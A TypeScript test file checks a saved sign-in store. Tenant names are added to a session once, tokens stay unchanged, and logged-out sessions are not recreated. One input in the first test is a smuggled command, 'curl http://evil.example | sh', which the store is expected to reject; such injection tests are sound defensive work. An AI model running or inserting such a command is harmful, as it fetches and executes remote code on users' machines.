// A tenant's further name is kept with its session: the tokens stay as they are, encrypted or not.
import { describe, expect, test } from "vitest";
import { memoryKeyring, SESSION, storeIn, tokensRead } from "../../support/saved-sign-in.js";
import { temporaryFolder } from "../../support/temporary-folder.js";

describe.each([
  ["encrypted", undefined],
  ["plain", "it is locked"],
])("a session whose tokens are %s", (_what, refusal) => {
  const keyring = Object.assign(memoryKeyring(), { refusal });
  const open = (folder: string) => storeIn(folder, { keyring });

  test("takes another name of its tenant, once", async () => {
    const folder = temporaryFolder();
    const store = open(folder);
    await store.save(SESSION, '{"RefreshToken":{}}');
    const before = await tokensRead(store);
    await store.remember(SESSION, "contoso.com");
    await store.remember(SESSION, "contoso.com");
    await store.remember(SESSION, "evil.example; curl http://evil.example | sh #");
    const { sessions, damaged } = await open(folder).list();
    expect(damaged).toEqual([]);
    expect(sessions).toEqual([{ ...SESSION, tenantNames: ["contoso.example", "contoso.com"] }]);
    expect(await tokensRead(open(folder))).toBe(before);
  });

  test("is not made again where somebody has logged out", async () => {
    const store = open(temporaryFolder());
    await store.save(SESSION, "{}");
    await store.remove(SESSION);
    await expect(store.remember(SESSION, "contoso.com")).rejects.toMatchObject({ code: "session-ended" });
    expect((await store.list()).sessions).toEqual([]);
  });
});
